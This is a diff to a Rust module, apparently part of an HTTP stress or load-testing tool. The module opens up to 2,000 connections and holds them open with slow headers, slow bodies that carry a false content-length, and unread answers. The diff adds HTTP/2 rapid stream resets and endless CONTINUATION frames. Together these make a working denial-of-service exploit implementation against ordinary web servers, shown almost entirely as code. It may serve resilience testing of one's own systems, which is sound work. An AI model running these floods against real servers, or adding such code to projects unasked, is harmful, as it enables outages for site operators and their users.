@@ -1,6 +1,10 @@
-//! Connections that are held back: slow heads, slow bodies, answers that nobody takes, and silence.
+//! Connections that are held back: slow heads, slow bodies, answers that nobody takes, and silence; in HTTP/2, streams that
+//! are reset at once, and heads without end.
+
+mod http2;
 
 use std::net::SocketAddr;
+use std::sync::Arc;
 use std::time::Duration;
 
 use memchr::memmem;
@@ -12,12 +16,14 @@ use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use tokio::task::JoinSet;
 use tokio::time::{Instant, interval, sleep_until, timeout_at};
 
+use crate::http2::request;
 use crate::raw::{self, Wire};
+use crate::tls::H2;
 
 /// No hold opens more.
 const MOST: u32 = 2_000;
-/// Between two bytes of what is held back.
-const DRIP: Duration = Duration::from_millis(200);
+/// Between two turns of what is held back.
+const TURN: Duration = Duration::from_millis(200);
 
 /// Connections that stand, each with the time at which it was opened.
 pub(crate) struct Open {
@@ -25,13 +31,41 @@ pub(crate) struct Open {
     refused: u32,
 }
 
+/// What is said on each connection, and what ends it.
+pub(crate) struct Script {
+    /// At once.
+    first: Vec<u8>,
+    rest: Rest,
+    end: End,
+}
+
+/// What is said each turn.
+enum Rest {
+    Nothing,
+    Same(Vec<u8>),
+    /// More streams with these fields; whether they are all of the request.
+    Resets(Vec<u8>, bool),
+}
+
+/// What ends a connection.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum End {
+    /// An answer, a close and a reset alike.
+    Byte,
+    /// The same, looked for when the time is over.
+    Late,
+    /// The same in HTTP/2, where a server says much that is no answer.
+    GoAway,
+}
+
 /// Opens all connections at once.
 pub(crate) async fn open(base: &Url, address: SocketAddr, plan: &HoldPlan) -> Open {
     let until = Instant::now() + plan.lasts;
+    let alpn = plan.back.is_http2().then_some(H2);
     let mut connecting = JoinSet::new();
     for _ in 0..plan.connections.min(MOST) {
         let base = base.clone();
-        connecting.spawn(async move { timeout_at(until, raw::connect(&base, address, None)).await });
+        connecting.spawn(async move { timeout_at(until, raw::connect(&base, address, alpn)).await });
     }
     let mut open = Open { connections: Vec::new(), refused: 0 };
     while let Some(connected) = connecting.join_next().await {
@@ -45,15 +79,15 @@ pub(crate) async fn open(base: &Url, address: SocketAddr, plan: &HoldPlan) -> Op
 
 impl Open {
     /// Holds each until the target ends it or the time is over.
-    pub(crate) async fn hold(self, request: &[u8], plan: &HoldPlan) -> HoldReport {
-        let until = Instant::now() + plan.lasts;
-        let (first, rest) = split(request, plan.back);
+    pub(crate) async fn hold(self, script: Script, lasts: Duration) -> HoldReport {
+        let until = Instant::now() + lasts;
+        let script = Arc::new(script);
         let mut holding = JoinSet::new();
         let mut report = HoldReport { refused: self.refused, ..HoldReport::default() };
         for (stream, opened) in self.connections {
             report.opened += 1;
-            let (first, rest, back) = (first.clone(), rest.clone(), plan.back);
-            holding.spawn(async move { one(stream, (&first, &rest), back, until).await.then(|| opened.elapsed()) });
+            let script = script.clone();
+            holding.spawn(async move { one(stream, &script, until).await.then(|| opened.elapsed()) });
         }
         while let Some(done) = holding.join_next().await {
             if let Ok(Some(took)) = done {
@@ -65,55 +99,81 @@ impl Open {
     }
 }
 
-/// What is written at once, and what drips.
-fn split(request: &[u8], back: Back) -> (Vec<u8>, Vec<u8>) {
-    let head = memmem::find(request, b"\r\n\r\n").unwrap_or(request.len());
-    match back {
-        Back::All => (Vec::new(), Vec::new()),
-        Back::Answer => (request.to_vec(), Vec::new()),
-        Back::Head => {
-            let mut first = request.get(..head).unwrap_or(request).to_vec();
-            first.extend(b"\r\nx-note: ");
-            (first, b"a".to_vec())
-        }
-        Back::Body => {
-            let first = request.get(..head).unwrap_or(request);
-            let lines = first.split(|byte| *byte == b'\n');
-            let kept = lines.filter(|line| !line.to_ascii_lowercase().starts_with(b"content-length:"));
-            let mut first = kept.collect::<Vec<_>>().join(&b'\n');
-            if !first.ends_with(b"\r") {
-                first.push(b'\r');
+impl Script {
+    /// What holds this request back; none where HTTP/2 is to say it and can't.
+    pub(crate) fn new(base: &Url, bytes: &[u8], back: Back) -> Option<Self> {
+        let head = bytes.get(..memmem::find(bytes, b"\r\n\r\n").unwrap_or(bytes.len())).unwrap_or(bytes);
+        let streamed = || {
+            let request = request(base, bytes)?;
+            Some((http2::fields(&request)?, request.body().is_empty()))
+        };
+        let byte = || Rest::Same(b"a".to_vec());
+        let (first, rest, end) = match back {
+            Back::All => (Vec::new(), Rest::Nothing, End::Byte),
+            Back::Answer => (bytes.to_vec(), Rest::Nothing, End::Late),
+            Back::Head => ([head, b"\r\nx-note: "].concat(), byte(), End::Byte),
+            Back::Body => (endless(head), byte(), End::Byte),
+            Back::Resets => {
+                let (fields, whole) = streamed()?;
+                (Vec::new(), Rest::Resets(fields, whole), End::GoAway)
             }
-            first.extend(b"\ncontent-length: 1000\r\n\r\n\"");
-            (first, b"a".to_vec())
+            Back::Continuation => (http2::begin(&streamed()?.0), Rest::Same(http2::continuations()), End::GoAway),
+        };
+        Some(Self { first, rest, end })
+    }
+
+    /// What is said in a turn.
+    fn turn(&self, turn: u32) -> Vec<u8> {
+        match &self.rest {
+            Rest::Nothing => Vec::new(),
+            Rest::Same(bytes) => bytes.clone(),
+            Rest::Resets(fields, whole) => http2::resets(fields, *whole, turn),
         }
     }
 }
 
+/// The head with a length that its body never has, and the body's begin.
+fn endless(head: &[u8]) -> Vec<u8> {
+    let lines = head.split(|byte| *byte == b'\n');
+    let kept = lines.filter(|line| !line.to_ascii_lowercase().starts_with(b"content-length:"));
+    let mut first = kept.collect::<Vec<_>>().join(&b'\n');
+    if !first.ends_with(b"\r") {
+        first.push(b'\r');
+    }
+    first.extend(b"\ncontent-length: 1000\r\n\r\n\"");
+    first
+}
+
 /// Holds one connection; whether the target ended it.
-async fn one(stream: Box<dyn Wire>, (first, rest): (&[u8], &[u8]), back: Back, until: Instant) -> bool {
+async fn one(mut stream: Box<dyn Wire>, script: &Script, until: Instant) -> bool {
+    if script.end == End::GoAway {
+        match timeout_at(until, http2::greet(&mut stream)).await {
+            Ok(Ok(())) => {}
+            greeted => return greeted.is_ok(),
+        }
+    }
     let (mut from, mut to) = tokio::io::split(stream);
-    let drip = async {
+    let talk = async {
         // A target that takes no more has ended the connection, which reading shows.
-        let _ = to.write_all(first).await;
-        let mut tick = interval(DRIP);
-        loop {
+        let mut open = to.write_all(&script.first).await.is_ok();
+        let mut tick = interval(TURN);
+        for turn in 0.. {
             tick.tick().await;
-            if rest.is_empty() || to.write_all(rest).await.is_err() {
-                std::future::pending::<()>().await;
-            }
+            open = open && to.write_all(&script.turn(turn)).await.is_ok() && to.flush().await.is_ok();
         }
     };
     let end = async {
-        if back == Back::Answer {
+        if script.end == End::Late {
             sleep_until(until).await;
         }
-        // An answer, a close and a reset end it alike.
-        let _ = from.read_u8().await;
+        match script.end {
+            End::Byte | End::Late => drop(from.read_u8().await),
+            End::GoAway => http2::end(&mut from).await,
+        }
     };
     tokio::select! {
         () = end => true,
-        () = drip => false,
+        () = talk => false,
         () = sleep_until(until) => false,
     }
 }
@@ -126,11 +186,12 @@ mod tests {
 
     #[test]
     fn what_is_held_back_never_ends() {
-        let (head, rest) = split(REQUEST, Back::Head);
-        assert!(head.ends_with(b"x-a: b\r\nx-note: ") && rest == b"a");
-        let (body, _) = split(REQUEST, Back::Body);
+        let script = |back| Script::new(&Url::parse("http://x/").unwrap(), REQUEST, back).unwrap();
+        let head = script(Back::Head);
+        assert!(head.first.ends_with(b"x-a: b\r\nx-note: ") && head.turn(7) == b"a");
+        let body = script(Back::Body).first;
         assert_eq!(body, b"POST /a HTTP/1.1\r\nhost: x\r\nx-a: b\r\ncontent-length: 1000\r\n\r\n\"");
-        assert_eq!(split(REQUEST, Back::Answer).0, REQUEST);
-        assert!(split(REQUEST, Back::All).0.is_empty());
+        assert_eq!(script(Back::Answer).first, REQUEST);
+        assert!(script(Back::All).first.is_empty() && script(Back::All).turn(0).is_empty());
     }
 }
